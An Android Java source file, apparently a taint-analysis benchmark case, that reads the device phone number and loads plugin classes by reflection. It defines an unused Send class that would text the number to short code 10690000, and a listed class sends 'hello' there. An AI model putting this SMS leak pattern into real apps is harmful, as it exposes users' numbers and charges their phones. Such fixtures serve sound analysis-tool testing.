// about       The classes of a list are loaded one by one and given the value; the one that sends is not on the list.
// clean       -
package cn.example.flow;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import dalvik.system.PathClassLoader;

public class MainActivity extends Activity {
  // The last one does not send.
  private static final String[] PLUGS = {"Count", "Keep", "Greet"};

  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    String number = phone.getLine1Number();
    ClassLoader loader = new PathClassLoader(getPackageCodePath(), getClassLoader());
    for (String plug : PLUGS) {
      try {
        ((Plug) loader.loadClass("cn.example.flow." + plug).newInstance()).take(this, number);
      } catch (ReflectiveOperationException e) {
        setTitle(plug);
      }
    }
  }
}

interface Plug {
  void take(Activity activity, String text);
}

class Count implements Plug {
  private static int count;

  @Override
  public void take(Activity activity, String text) {
    activity.setTitle("" + ++count);
  }
}

class Keep implements Plug {
  @Override
  public void take(Activity activity, String text) {
    activity.getPreferences(Context.MODE_PRIVATE).edit().putString("text", text).apply();
  }
}

class Send implements Plug {
  @Override
  public void take(Activity activity, String text) {
    SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
  }
}

class Greet implements Plug {
  @Override
  public void take(Activity activity, String text) {
    SmsManager.getDefault().sendTextMessage("10690000", null, "hello", null, null);
  }
}
